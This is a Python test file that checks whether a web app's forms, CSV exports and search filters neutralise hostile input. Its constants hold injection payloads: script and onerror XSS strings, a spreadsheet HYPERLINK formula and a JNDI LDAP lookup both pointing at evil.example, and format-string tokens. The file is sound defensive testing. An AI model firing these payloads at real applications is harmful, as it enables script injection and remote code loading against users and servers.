"""Hostile text in every field of every form: it comes back as text, makes no element and no formula, breaks no page."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from urllib.parse import urlsplit

import pytest
from werkzeug.test import TestResponse

from tests.support.crawler import Field, Form, cells, crawl, forms, read, submit
from tests.support.instance import Instance, make_instance
from webapp.domain.permissions import Role

NOW = datetime(2026, 11, 21, 9, 0, tzinfo=UTC)
MARK = "Zq9"
NASTY = f"{MARK}\"'><xss-el data-xss=1><img src=x onerror=xss()></title></textarea><script>xss()</script>{{{{7*7}}}}"
FORMULA = f'=HYPERLINK("https://evil.example/","{MARK}")'
TEXTS = {
    "html": NASTY,
    "formula": FORMULA,
    "at": f"@SUM({MARK})",
    "control": f"{MARK}\x00\x01\x1b[31m\u202e\u2028" + "长" * 3_000,
    "surrogate-like": f"{MARK}\ufffe\U0010ffff%s%n{{0}}${{jndi:ldap://evil.example/}}",
    "number": "-1e309",
}
LEAVING = re.compile(r"sign-out|/language")
STARTS = ("/", "/phones", "/orders/import", "/phones/quarantine", "/sign-in")


@pytest.fixture(scope="module")
def instance(tmp_path_factory: pytest.TempPathFactory) -> Instance:
    return make_instance(tmp_path_factory.mktemp("injection"), NOW)


def assert_harmless(path: str, answer: TestResponse) -> None:
    assert answer.status_code < 500, (path, answer.status_code)
    if answer.mimetype == "text/csv":
        # A minus sign may begin a number; nothing else that a spreadsheet would calculate may begin a cell.
        for cell in cells(answer):
            assert not re.match(r"[=+@\t\r]|-(?![\d.,]+$)", cell), (path, cell[:60])
        return
    if answer.mimetype != "text/html":
        return
    for tag, values in read(path, answer).tags:
        assert tag != "xss-el" and "data-xss" not in values, path
        assert not [name for name in values if name.startswith("on")], (path, tag, values)
        if tag == "script":
            assert values.get("src", "").startswith("/") or values.get("type") == "application/json", path
        if tag == "img":
            assert values.get("src") != "x", path
        for name in ("href", "src", "action", "formaction"):
            scheme = urlsplit(values.get(name, "")).scheme
            assert scheme in ("", "http", "https", "data", "mailto"), (path, tag, values[name][:60])


def with_csrf(instance: Instance, form: Form) -> object:
    """A fresh browser for each form: one that signs itself out or locks itself out disturbs no other."""
    client = instance.client(Role.OWNER)
    token = instance.csrf(client)
    for row in form.fields:
        if row.name == "csrf_token":
            row.value = token
    return client


def test_no_form_lets_text_become_markup_or_formula(instance: Instance) -> None:
    found = [form for form in forms(instance.client(Role.OWNER), *STARTS) if not LEAVING.search(form.action)]
    assert len([form for form in found if form.writable]) >= 4, "the walk found the forms"
    for name in ("html", "formula", "control"):
        text = TEXTS[name]
        for form in found:
            client = with_csrf(instance, form)

            def fill(row: Field, text: str = text) -> str:
                return text

            answer = submit(client, form, fill)  # type: ignore[arg-type]
            assert_harmless(f"{name} → {form.action}", answer)


def test_what_was_stored_comes_back_as_text_on_every_page(instance: Instance) -> None:
    owner = instance.client(Role.OWNER)
    token = instance.csrf(owner)
    page = owner.get("/phones").text
    site = re.search(r'name="site" value="([0-9a-f]{32})"', page)
    assert site is not None
    for text in (NASTY, FORMULA):
        form = {"csrf_token": token, "site": site[1], "name": text, "role": "cn_receiver", "pin": "2468"}
        owner.post("/phones/workers", data=form)
    shown = 0
    for path, answer in crawl(owner, *STARTS):
        assert_harmless(path, answer)
        shown += answer.mimetype == "text/html" and MARK in answer.text
    assert shown >= 1, "the hostile worker is on a page"


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_search_and_filters_take_anything(instance: Instance, text: str) -> None:
    owner = instance.client(Role.OWNER)
    for name in ("q", "page", "state", "sort", "from", "to", "next"):
        for path in ("/", "/phones", "/sign-in", "/scan"):
            answer = owner.get(path, query_string={name: text}, follow_redirects=True)
            assert_harmless(f"{path}?{name}", answer)
